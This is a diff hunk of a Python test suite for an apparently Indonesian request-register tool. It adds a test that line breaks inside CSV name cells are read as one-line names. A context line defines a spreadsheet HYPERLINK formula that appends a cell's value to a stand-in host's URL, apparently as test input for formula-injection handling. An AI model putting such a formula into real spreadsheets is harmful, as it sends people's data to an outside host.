@@ -604,6 +604,17 @@ def test_nomor_lokal_pendek_dari_buku_lama_bukan_kerusakan_bagi_periksa(run, ws,
     assert run.ok("periksa").stdout == ""
 
 
+def test_nama_dengan_pindah_baris_di_sel_dibaca_satu_baris(run, ws, tmp_path):
+    # Alt+Enter inside a name cell was kept: the receipt and letters printed the name on two
+    # lines, and the desk refuses such a name
+    src = write_csv(tmp_path / "nama.csv", [[*HEAD, "Nama Kuasa"],
+                    ["001/PPID/5271/I/2026", "5/1/2026", "Lalu Ahmad\r\nZaini", "Data", "Baiq\nNurul"]])  # fmt: skip
+    run.ok("impor", str(src), "--register", "permohonan")
+    row = register_rows(ws)[0]
+    assert (row["nama_pemohon"], row["kuasa_nama"]) == ("Lalu Ahmad Zaini", "Baiq Nurul")
+    assert run.ok("periksa").stdout == ""
+
+
 LINK = '=HYPERLINK("http://contoh.invalid/?"&D3,"lihat")'  # (text in the source)
 
 
